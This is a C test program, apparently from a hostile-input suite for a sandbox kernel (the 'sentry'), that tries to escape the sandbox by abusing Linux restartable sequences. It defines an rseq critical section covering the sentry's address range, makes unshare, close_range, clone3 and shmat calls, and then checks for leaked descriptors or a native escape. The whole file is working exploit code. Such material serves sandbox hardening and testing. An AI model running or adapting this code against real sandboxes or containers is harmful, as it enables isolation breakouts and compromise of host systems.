// Restartable sequences: when a task goes on after a stop with its instruction pointer inside a sequence, the kernel sends
// it to the sequence's abort code instead. Where the sentry has a stopped task make a call at some place, in the
// guest's code or in a page of its own, the guest's abort code runs instead, in the middle of the sentry's business.
// Seconds: 2
#include "hostile.h"
#include <linux/rseq.h>
#include <sys/ipc.h>
#include <sys/rseq.h>
#include <sys/shm.h>

/// Makes a call at `guarded_call`, whose two bytes are a sequence; 1 << 40 is added to the result when it was aborted.
long guarded(long number, long a, long b, long c, long d, long e, struct rseq_cs *sequence, volatile void *area);
extern const char guarded_call[], guarded_end[], guarded_abort[];
asm(".pushsection .text\n"
    "guarded: push %rbx\n"
    "  mov 16(%rsp), %rbx; mov 24(%rsp), %r11\n"  // sequence, area
    "  push %rbp; mov %rbx, %rbp\n"
    "  mov %rdi, %rax; mov %rsi, %rdi; mov %rdx, %rsi; mov %rcx, %rdx; mov %r8, %r10; mov %r9, %r8\n"
    "  mov %rbp, 8(%r11)\n"  // rseq_cs
    "guarded_call: syscall\n"
    "guarded_end:  jmp 1f\n"
    "  .long 0x53053053\n"
    "guarded_abort: bts $40, %rax\n"
    "1: pop %rbp; pop %rbx; ret\n"
    ".popsection");

static volatile void *area;
static struct rseq_cs here, sentrys;

static long call(bool in_sentrys_page, long number, long a, long b, long c, long d, long e) {
    return guarded(number, a, b, c, d, e, in_sentrys_page ? &sentrys : &here, area);
}
#define ABORTED (1l << 40)

static void look_for_lent(void) {
    for (int fd = 64; fd < 200; fd++) {
        char byte;
        if (RAW(SYS_pread64, fd, &byte, 1, 0) == 1 && fcntl(fd, F_GETFD) < 0) succeeded("kept a lent descriptor, %d", fd);
    }
}

static void attack(void) {
    area = (char *)__builtin_thread_pointer() + __rseq_offset;
    here = (struct rseq_cs){0, 0, (uint64_t)guarded_call, guarded_end - guarded_call, (uint64_t)guarded_abort};
    // Nearly everything but this program: where the sentry's pages are, wherever that is.
    sentrys = (struct rseq_cs){0, 0, 0x7d0000000000, 0x200000000000 - 0x100000000000, (uint64_t)guarded_abort};
    sentrys.post_commit_offset = 0x7fffffff0000 - sentrys.start_ip;
    while (left() > 0) {
        for (int where = 0; where < 2; where++) {
            atomic_int *done = calloc(1, sizeof *done);
            thread_start(idle_thread, done);
            long result = call(where, SYS_unshare, CLONE_FILES, 0, 0, 0, 0);
            // Aborted with another number in the register than the one that was called, or a result.
            if (result & ABORTED) {
                if (escape()) say("note: natively after unshare");
            }
            *done = 1;
            done = calloc(1, sizeof *done);
            thread_start(idle_thread, done);
            result = call(where, SYS_close_range, 300, 400, 2, 0, 0);
            if (result & ABORTED) escape();
            *done = 1;
            struct clone_args arguments = {.exit_signal = SIGCHLD};
            result = call(where, SYS_clone3, (long)&arguments, sizeof arguments, 0, 0, 0);
            if (result == 0) RAW(SYS_exit_group, 0);
            if ((result & ABORTED) && (result & 0xffff) == SYS_clone) {
                long pid = RAW(SYS_clone, CLONE_UNTRACED | SIGCHLD);
                if (pid == 0) outlive();
                escape();
            } else if (result == ABORTED) RAW(SYS_exit_group, 0);
            int pidfd = -1;
            arguments = (struct clone_args){.flags = CLONE_PIDFD, .pidfd = (uint64_t)&pidfd, .exit_signal = SIGCHLD};
            result = call(where, SYS_clone3, (long)&arguments, sizeof arguments, 0, 0, 0);
            if ((result & ~ABORTED) == 0) RAW(SYS_exit_group, 0);
            if (result & ABORTED) escape();
            if (pidfd >= 0) close(pidfd);
            int id = shmget(IPC_PRIVATE, 4096, 0600);
            result = call(where, SYS_shmat, id, 0, SHM_RDONLY, 0, 0);
            if (result & ABORTED) escape(), look_for_lent();
            if (result > 4096 && !(result & ABORTED)) shmdt((void *)result);
            shmctl(id, IPC_RMID, NULL);
            while (waitpid(-1, NULL, WNOHANG) > 0) {}
            round_done();
        }
    }
}
